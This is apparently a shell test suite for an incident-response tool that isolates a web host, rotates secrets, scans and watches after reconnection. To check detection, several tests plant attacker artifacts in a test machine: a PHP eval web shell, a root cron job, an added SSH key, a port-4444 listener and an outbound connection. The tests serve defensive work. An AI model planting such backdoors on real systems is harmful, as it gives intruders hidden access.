    code 3 on operator "setpriv --bounding-set=-kill --inh-caps=-kill yagura respond lock ada"
    unwrapped
    says "ada is shut, and its processes could not all be ended: 1 processes of the account run on"
    code 0 on operator "pgrep -u ada && grep '^ada:![$].*:1:$' /etc/shadow"
    respond 0 "unlock ada"
    respond 0 "lock ada --because 'nobody knows her'"
    says "processes ended: 1"
    code 1 on operator "pgrep -u ada"
    code 0 on operator "grep '^ada:![$].*:1:$' /etc/shadow"
    respond 0 "lock ada" # twice is once: what was before is not forgotten
    respond 0 "unlock ada"
    code 0 on operator "grep '^ada:[$].*::$' /etc/shadow"
    respond 2 "unlock ada"
    respond 1 "do passwords"
    says "! system-account:ada"
    respond 0 "expire ada"
    code 0 on operator "grep '^ada:[$].*:1:$' /etc/shadow"
    respond 2 "lock root"
    says "root"
    respond 0 "end-sessions root"
    code 0 on operator "echo still here"

    # salts: not published with what somebody else wrote into the file
    code 0 on operator "cp -p $file /root/kept && echo '@eval(1);' >>$file"
    respond 3 "rotate salt:$file"
    unwrapped
    says "not as it was published"
    code 0 on operator "cp -p /root/kept $file && cmp /root/kept $file"
    respond 2 "rotate /etc/passwd"
    respond 0 "rotate $file"
    says "8 new salts"
    code 1 on operator "grep -E 'hoshi-(AUTH|SECURE|LOGGED|NONCE)' $file"
    code 0 on operator "grep hoshi-db $file && yagura verify --all"

    # where there are none: what is so, and what to do; of two sites the file is the inner one's
    respond 2 "rotate $inner"
    unwrapped
    says "$inner: it has no keys and salts" "copy the eight lines AUTH_KEY to NONCE_SALT of wp-config-sample.php into it"
    code 0 on operator "grep SALT $file >>$inner && yagura init /var/www/shop/blog"
    respond 0 "rotate $inner"
    says "4 new salts"
    code 0 on operator "yagura verify blog --all"

    respond 1 "do passwords"
    says "! database:$file" "! system-account:root" "! deploy-key:/root/.git-credentials"
    says_not "! salt:$file" "! system-account:ada"
    code 0 on operator "sed -i s/hoshi-db/kanuma-db/ $file && echo root:kanuma-root | chpasswd && echo kanuma-key >/root/.git-credentials"
    respond 1 "do passwords"
    says_not "! database:$file" "! system-account:" "! deploy-key:"
    sign "changed where it lies" "$(grep -oE '^! [a-z-]+:[^ ]+' <<<"$output" | cut -c3-)"
    respond 0 "do passwords"
    says_not "were not looked at" # it is signed for
    # whatever was done is in the ledger, and no secret is
    code 0 on operator "yagura ledger show --json"
    says '"way":"lock"' '"way":"unlock"' '"way":"rotate"' "nobody knows her"
    respond 0 "do report"
    grep '"subject":"system-account:ada"' "$HOST_STATE"/evidence/*/report-1/timeline.jsonl >"$WORK/ada"
    grep -q '"detail":"nobody knows her"' "$WORK/ada"
    grep -q '"detail":"unlock"' "$WORK/ada"
    grep -q "\"subject\":\"salt:$file\"" "$HOST_STATE"/evidence/*/report-1/timeline.jsonl
    code 0 on operator "yagura ledger show --json"
    if grep -rqE "hoshi-|kanuma-" "$HOST_STATE/evidence" <<<"$output"; then return 1; fi
    says_not hoshi- kanuma-
}

@test "what was signed for has to have been found" {
    begin
    code 2 on operator "yagura respond sign 0badcafe --because typo"
    unwrapped
    says "no step lists anything called"
}

# How often the step was begun.
begun() { "$YAGURA" --state "$HOST_STATE" ledger show --json | grep -c '"what":"begin".*"step":"'"$1" || :; }
# The terminal goes as soon as the step has begun; who comes back looks where it stands.
terminal_killed() {
    local before
    before=$(begun "$1")
    connect doomed
    (on doomed "yagura respond do $1" >/dev/null 2>&1 &)
    for _ in $(seq 3600); do # its conditions may take long to look at
        [ "$(begun "$1")" = "$before" ] || break
        sleep 0.05
    done
    ends doomed
    for _ in $(seq 300); do in_ns srv pgrep -f "yagura respond do $1" >/dev/null || break; sleep 0.1; done
    code 0 on operator "yagura respond status --json || :"
    holds 'next(o for o in every if o.get("step") == "'"$1"'")["state"] in ("begun", "done", "failed")'
    code "0 1 3" on operator "yagura respond resume"
}

@test "the terminal is killed in each step, and what was begun is gone on with" {
    begin
    BEFORE=terminal_killed
    lead open $every
    proved
}

@test "the power is cut in the middle of step 4, the rules come back, and what is claimed and not true is open again" {
    begin
    lead isolate administrator scan
    # the holes are looked for, and nobody has said that they were
    ("$HELPERS/session" do "$WORK/operator.sock" 60 "PATH=/opt/yagura:\$PATH yagura respond do patch" >/dev/null 2>&1 &)
    for _ in $(seq 1200); do [ "$(begun patch)" = 0 ] || break; sleep 0.02; done
    code 0 on second "pkill -STOP -x yagura" # of the server's own processes
    [ "$(begun patch)" = 1 ]
    power_off
    boot
    # from the first moment on: a notice for visitors, nobody else
    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 503 ]
    connect operator
    code "0 1" on operator "yagura respond resume" # it may be true by now
    unwrapped
    says "this host is cut off" "4 Patch: begun, not ended" "Next, Patch"
    code 1 on operator "yagura respond next"
    says "respond do patch"
    code 1 on operator "yagura respond status --json"
    holds 'next(o for o in every if o.get("step") == "isolate")["state"] == "done"' \
        'next(o for o in every if o.get("step") == "scan")["state"] == "done"' \
        'next(o for o in every if o.get("step") == "patch")["state"] == "begun"'
    # somebody opens the door, or makes a hole in it
    in_ns srv nft delete table inet yagura
    code 1 on operator "yagura respond status"
    unwrapped
    says "somebody else took our rules away"
    code "0 1" on operator "yagura respond resume"
    unwrapped
    says "they are back" "this host is cut off"
    in_ns srv nft list table inet yagura | grep -m1 -o 'chain [a-z_0-9]*' >"$WORK/chain"
    in_ns srv nft insert rule inet yagura "$(cut -d' ' -f2 "$WORK/chain")" accept
    code 1 on operator "yagura respond status"
    unwrapped
    says "changed rules in our table"
    code "0 1" on operator "yagura respond resume"
    unwrapped
    says "they are back" "this host is cut off"
    # and takes away what was kept of it: nothing is there to be put back
    in_ns srv nft delete table inet yagura
    code 0 on operator "rm /var/lib/yagura/firewall.json"
    code 1 on operator "yagura respond resume"
    unwrapped
    says "the network is open" "yagura respond do isolate"
    code 2 on operator "yagura respond do patch"
    unwrapped
    says "step 1 (isolate) comes first"
    finish_isolate
    lead patch restore
    # once more, now with the guard
    touch "$WORK/root/etc/guarded"
    power_off
    boot
    connect operator
    lead passwords reconnect report
    proved
    echo defaced >"$SHOP/index.php"
    for _ in $(seq 100); do cmp -s "$SHOP/index.php" "$WORK/root.before/var/www/shop/index.php" && break; sleep 0.1; done
    listing "$SHOP" | diff "$WORK/published" -
}

@test "once scanned, what may have changed is looked at again, and not every file" {
    local step
    begin
    lead isolate administrator scan
    code 0 on operator "yagura respond resume"
    unwrapped
    says "were looked at just now; all other files by the scan that ended"
    # all bytes of /tmp are read by the scan alone; where it found something, whenever it is proved
    plant() { on operator "printf '<?p''hp @ev''al(\$_PO''ST[1]); ?>' >/tmp/new.php"; }
    plant
    code 0 on operator "yagura respond resume"
    respond 1 "do scan"
    unwrapped
    says /tmp/new.php
    on operator "rm /tmp/new.php"
    respond 0 "do scan"
    # who lets visitors in takes it for an hour, and reads all of them after that
    later() { on operator "ASAN_OPTIONS=verify_asan_link_order=0 LD_PRELOAD=/opt/yagura/tests/fault/liblater.so LATER_SECONDS=$1 yagura respond do reconnect --dry-run"; }
    for step in patch restore passwords; do code "0 1" on operator "yagura respond skip $step --because 'a test'"; done
    on operator "printf '<?p''hp @ev''al(\$_PO''ST[1]); ?>' >/tmp/later.php"
    code "0 1 3" later 1800
    unwrapped
    says "all other files by the scan that ended 3"
    code "0 1 3" later 3660
    unwrapped
    says_not "all other files by the scan that ended"
    says "scan-web-shell /tmp/later.php"
    on operator "rm /tmp/later.php"
    plant
    on operator "cp /bin/sleep /tmp/.x && (setsid /tmp/.x 9999 >/dev/null 2>&1 </dev/null &)"
    for _ in $(seq 100); do on operator "pgrep -f '^/tmp/.x 9999'" >/dev/null && break; sleep 0.1; done
    code 1 on operator "yagura respond resume"
    unwrapped
    says "2 findings are neither gone nor signed for"
    code 2 on operator "yagura respond do patch" # it is open again
}

@test "the disk is full when the evidence is taken: it is cut off all the same, and gone on with" {
    power_off
    mount -t tmpfs -o size=48m yagura-test "$HOST_STATE" 2>/dev/null || skip "no tmpfs can be mounted here"
    boot
    connect operator
    begin
    fill 300
    finish_isolate
    "$YAGURA" --state "$HOST_STATE" ledger show --json | grep -q '"what":"done".*"step":"isolate"'
    fill 0
    code 3 on operator "yagura respond do administrator"
    unwrapped
    says "The disk is full. Make room first" "/run/yagura"
    # what it names works
    code 0 on operator "yagura respond start --state /run/yagura"
    code 0 on operator "yagura respond do isolate --mode contain --state /run/yagura"
    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 000 ]
    rm "$HOST_STATE"/filler*
    # its own rules stand where the other state's stood
    code 0 on operator "yagura respond resume"
    unwrapped
    says "they are back" "this host is cut off"
    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 503 ]
    respond 0 "do isolate"
    says "Step 1"
    lead administrator scan patch restore passwords reconnect report
    proved
}

@test "a changed ledger is noticed at the next command, and another operator goes on" {
    begin
    lead isolate
    code "0 1 3" on second "yagura respond resume --who hanako"
    unwrapped
    says hanako
    # one who may not
    code "2 3" on operator "setpriv --reuid=33 --regid=33 --clear-groups yagura respond status --state /var/lib/yagura"
    says "Permission denied"
    sqlite3 "$HOST_STATE/state.db" "update ledger set body = replace(body, 'defaced', 'as ever')"
    code 1 on operator "yagura respond status"
    says "THE LEDGER WAS CHANGED: entry"
    code 1 on operator "yagura ledger verify"
    code "1" on operator "yagura respond do administrator"
    code 1 on operator "yagura respond next"
}

# ---- the reconnection in stages, and the watch after it ----

# entries WHAT: how many of them the incident's ledger has
entries() { "$YAGURA" --state "$HOST_STATE" ledger show --json | grep -c "\"what\":\"$1\"" || :; }
answer() { asked /readme.html -w '%{http_code}' | tail -c 3; }
# The state is the service's, as the package has it: what root makes in it is handed over.
SERVICE=990
# look CODE: as yagura-watch.service does it, by its user and with its capabilities
look() {
    local caps=+dac_read_search,+net_admin,+sys_ptrace
    code "$1" on operator "YAGURA_HOOK=/run/hook setpriv --reuid=$SERVICE --regid=$SERVICE --clear-groups --inh-caps=-all,$caps --ambient-caps=-all,$caps --bounding-set=-all,$caps --no-new-privs yagura --state /var/lib/yagura respond watch"
}
# Cut off and confirmed; what is left is to reconnect.
cut_off() {
    chown $SERVICE:$SERVICE "$HOST_STATE"
    publish
    cat >"$HOST_STATE/short.yaml" <<'YAML'
id: short
title: Short
steps:
  - {id: isolate, title: Isolate, text: x, why: x, action: isolate, verify: [isolated], undo: {action: open-network}}
  - {id: reconnect, title: Reconnect, text: x, why: x, before: [isolated, content], action: reconnect, verify: [reconnected, content], undo: {action: isolate}}
YAML
    respond 0 "start --runbook /var/lib/yagura/short.yaml"
    connect second
    AT=second respond 0 confirm
    [ "$(answer)" = 503 ]
    code 1 on operator "yagura status"
    unwrapped
    says "Incident" "is open: yagura respond" "This host is isolated (web), and stays so"
}

@test "visitors over TLS get the notice with the site's own certificate, on trial and for good" {
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=shop.example \
        -addext subjectAltName=DNS:shop.example -keyout "$WORK/root/etc/nginx/shop.key" -out "$WORK/root/etc/nginx/shop.pem" 2>/dev/null
    chmod 600 "$WORK/root/etc/nginx/shop.key"
    sed -i '0,/listen/s//listen 443 ssl; listen 8443 ssl; ssl_certificate shop.pem; ssl_certificate_key shop.key; &/' "$WORK/root/etc/nginx/sites-available/shop"
    code 0 on operator "nginx -s reload"
    secure() { in_ns att curl -s -m 20 --cacert "$WORK/root/etc/nginx/shop.pem" --resolve "shop.example:$1:10.8.2.1" -o "$WORK/said" -w '%{http_code}' "https://shop.example:$1/readme.html"; }
    for _ in $(seq 300); do [ "$(secure 8443)" != 200 ] || break; sleep 0.1; done
    [ "$(secure 443)" = 200 ]
    # a port over TLS is a site's like another
    code 0 on operator "yagura ports --close --dry-run"
    grep '8443/tcp' <<<"$output" | grep -q "stays open"
    cut_off
    for port in 443 8443; do
        [ "$(secure "$port")" = 503 ]
        grep -q "休止しています" "$WORK/said"
    done
}

@test "visitors keep the notice until the host's own health check passes, and get it again when the opening does not hold" {
    cut_off
    # what it would do
    respond 1 "do reconnect --dry-run"
    unwrapped
    says "In stages: 1. your way in alone" "1 was asked" "closer watch for 72 hours, which tells and does not isolate" "Nothing was done"
    [ "$(answer)" = 503 ]
    # a stopped web server
    on operator "nginx -s stop; while pgrep -x nginx; do sleep 0.1; done" >/dev/null
    respond 1 "do reconnect"
    unwrapped
    says "http://shop.example/: nothing answers on port 80 of loopback" "mend the web server" "is NOT done"
    [ "$(answer)" = 503 ]
    on operator "nginx" || :
    # a database that does not run: the pages that need it say so
    if [ -n "$WORDPRESS" ]; then
        on operator "kill \$(pgrep -x mariadbd); while pgrep -x mariadbd; do sleep 0.1; done" >/dev/null
        config "health: [http://shop.example/]"
        respond 1 "do reconnect"
        unwrapped
        says "http://shop.example/ answers 500"
        [ "$(answer)" = 503 ]
        on operator "(setsid mariadbd >/dev/null 2>&1 </dev/null &); for i in \$(seq 600); do mariadb -e 'select 1' && break; sleep 0.1; done" >/dev/null
    fi
    # one that answers 404, and without any page named: each site is asked
    config "health: [http://localhost/gone.html]"
    respond 1 "do reconnect"
    unwrapped
    says "http://localhost/gone.html answers 404"
    [ "$(answer)" = 503 ]
    on operator "pkill -o php-fpm; while pgrep php-fpm; do sleep 0.1; done" >/dev/null
    config ""
    respond 1 "do reconnect"
    unwrapped
    says "http://localhost/ answers 502"
    # the operator's own check
    config "health: [http://localhost/readme.html]" "respond: {health: [/bin/sh, -c, 'echo no database; exit 3']}"
    respond 1 "do reconnect"
    unwrapped
    says "your own check /bin/sh ends with 3: no database"
    [ "$(answer)" = 503 ]
    [ "$(entries watch)" = 0 ]
    # true while cut off, and not afterwards
    config "health: [http://localhost/readme.html]" "respond: {health: [/bin/sh, -c, 'nft list table inet yagura']}"
    respond 1 "do reconnect"
    unwrapped
    says "your own check /bin/sh ends with 1" "This host was cut off again at once" "is NOT done"
    [ "$(answer)" = 503 ]
    code "0 1" on operator "echo still here"
    says "still here"
    connect third
    AT=third code 1 on third "yagura respond status"
    unwrapped
    says "The closer watch is over since"
    # and if it cannot be cut off again, as nft is refused from the opening on, somebody looks
    config "health: [http://localhost/readme.html]" "respond: {health: [/bin/sh, -c, 'nft list table inet yagura || { mount --bind /bin/false $(readlink -f /usr/sbin/nft); exit 1; }']}"
    respond "2 3" "do reconnect"
    unwrapped
    says "The closer watch goes on" "THE NETWORK IS OPEN, and cutting it off again failed"
    [ "$(answer)" = 200 ]
    [ -e "$HOST_STATE/watch.json" ]
    code "0 1" on operator "umount \$(readlink -f /usr/sbin/nft)"
    code 1 on operator "yagura respond status"
    unwrapped
    says "Closer watch until" "last look: none yet"
    look 0
    code 0 on operator "yagura respond do isolate"
    connect fifth
    AT=fifth respond 0 confirm
    [ "$(answer)" = 503 ]
    # the rules last, as they did before
    power_off
    boot
    connect operator
    [ "$(answer)" = 503 ]
    config "health: [http://shop.example/]" "respond: {health: [/bin/true]}"
    respond 0 "do reconnect"
    [ "$(answer)" = 200 ]
    code 0 "$YAGURA" --state "$HOST_STATE" ledger show --json
    for stage in administrator health public "health after the opening" "cut off again"; do
        says "\"stage\":\"$stage\""
    done
    code 0 on operator "yagura respond status"
    unwrapped
    says "Closer watch until" "it tells, and does not isolate" "last look: none yet"
    says_not "nothing found"
    # undone on trial, which may lapse: somebody has to look until it is confirmed
    respond "0 1" "undo reconnect"
    [ "$(answer)" = 503 ]
    code 1 on operator "yagura respond status"
    unwrapped
    says "Closer watch until"
    connect fourth
    AT=fourth respond 0 confirm
    code 1 on fourth "yagura respond status"
    unwrapped
    says "The closer watch is over since"
    code 0 on fourth "yagura ledger verify"
}

@test "what is planted after the reconnection is found by the watch, told once, and cut off again if so configured" {
    cut_off
    config "health: [http://localhost/readme.html]" "on_tamper: cat >>/tmp/alarms"
    code 0 on operator "yagura respond watch" # none is on
    respond 0 "do reconnect"
    local began
    began=$(date +%s%N)
    look 0
    tell "a look of the watch: $((($(date +%s%N) - began) / 1000000)) ms"
    [ -z "$output" ]
    # what on_tamper is handed to, as yagura-hook.socket does it
    code 0 on operator "(setsid python3 -c 'import socket, os; s = socket.socket(socket.AF_UNIX); s.bind(\"/run/hook\"); os.chown(\"/run/hook\", $SERVICE, $SERVICE); s.listen(4); [(lambda c: (open(\"/tmp/alarms\", \"ab\").write(c.makefile(\"rb\").read()), c.close()))(s.accept()[0]) for i in range(99)]' >/dev/null 2>&1 &); for i in \$(seq 100); do [ -S /run/hook ] && break; sleep 0.1; done; [ -S /run/hook ]"
    # a page, a job, a key that looks old, a door, a way out
    code 0 on operator "echo defaced >>/var/www/shop/readme.html"
    code 0 on operator "echo '* * * * * root sh /tmp/x' >/etc/cron.d/php-sessions; touch -d 2020-01-01 /etc/cron.d/php-sessions"
    code 0 on operator "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGt5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5 x@y' >>/root/.ssh/authorized_keys; touch -d 2020-01-01 /root/.ssh/authorized_keys"
    code 0 on operator "(setsid python3 -c 'import socket, time; s = socket.socket(); s.bind((\"\", 4444)); s.listen(1); open(\"/run/door\", \"w\").close(); time.sleep(600)' >/dev/null 2>&1 &); until [ -e /run/door ]; do sleep 0.1; done"
    code 0 on operator "(setsid setpriv --reuid=33 --regid=33 --clear-groups python3 -c 'import socket, time; s = socket.create_connection((\"10.8.3.2\", 22)); open(\"/tmp/out\", \"w\").close(); time.sleep(600)' >/dev/null 2>&1 &); for i in \$(seq 100); do [ -e /tmp/out ] && break; sleep 0.1; done; [ -e /tmp/out ]"
    look 1
    unwrapped
    says "not as it was published: readme.html" "/etc/cron.d/php-sessions" "A key that was added lately lets somebody in: /root/.ssh/authorized_keys" \
        "a program of root listens to the outside on TCP port 4444" "a program of www-data has made a connection to 10.8.3.2, port 22"
    # not the key that was there before
    [ "$(grep -o authorized_keys <<<"$output" | wc -l)" = 1 ]
    [ "$(entries find)" = 6 ] # the job breaks two rules
    grep -q '"type":"watch".*"found":6.*"isolates_again":null' "$WORK/root/tmp/alarms"
    # it only tells
    [ "$(answer)" = 200 ]
    # once
    look 1
    unwrapped
    says "6 things that were told before are still so"
    says_not php-sessions
    [ "$(entries find)" = 6 ]
    [ "$(wc -l <"$WORK/root/tmp/alarms")" = 1 ]
    # the incident is closed before the hours are over: the watch goes on, and reopens nothing
    code 0 on operator "pkill -f 4444; pkill -f create_connection; rm /etc/cron.d/php-sessions; sed -i /x@y/d /root/.ssh/authorized_keys; yagura restore shop --yes"
    code "0 1" on operator "yagura respond watch"
    respond 0 close
    # who writes in its memory is found out
    sed -i 's/"listeners":\[/&4445,/' "$HOST_STATE/watch.json"
    look 1
    unwrapped
    says "what was known at the reconnection was changed"
    sed -i 's/"listeners":\[4445,/"listeners":[/' "$HOST_STATE/watch.json"
    code 0 on operator "yagura respond"
    unwrapped
    says closed "Closer watch until" "7 things found"
    code "0 3" on operator "yagura status"
    unwrapped
    says "Closer watch until" "7 things found"
    says_not "! Incident" isolated
    code 0 on operator "echo again >>/var/www/shop/readme.html"
    config "health: [http://localhost/readme.html]" "on_tamper: cat >>/tmp/alarms" "respond: {isolate_again: full}"
    look 1
    unwrapped
    # nobody named an address: all but the ways in, and not all
    says "was cut off again (contain)" "respond start"
    tail -1 "$WORK/root/tmp/alarms" | grep -q '"isolates_again":"full".*"do":"yagura respond start"'
    [ "$(answer)" = 000 ]
    if in_ns srv timeout 2 bash -c 'echo >/dev/tcp/10.8.3.2/22'; then return 1; fi
    code 0 on operator "echo still here"
    says "still here"
    connect third
    code "0 1" on third "yagura respond status"
    unwrapped
    says closed "The closer watch is over since" "the watch cut this host off again"
    code 0 on third "yagura respond watch" # there is none
    [ "$(entries evidence)" = 4 ] # of both cuts, before and after
    # it lasts
    power_off
    boot
    connect operator
    [ "$(answer)" = 000 ]
    code 0 on operator "yagura ledger verify"
}
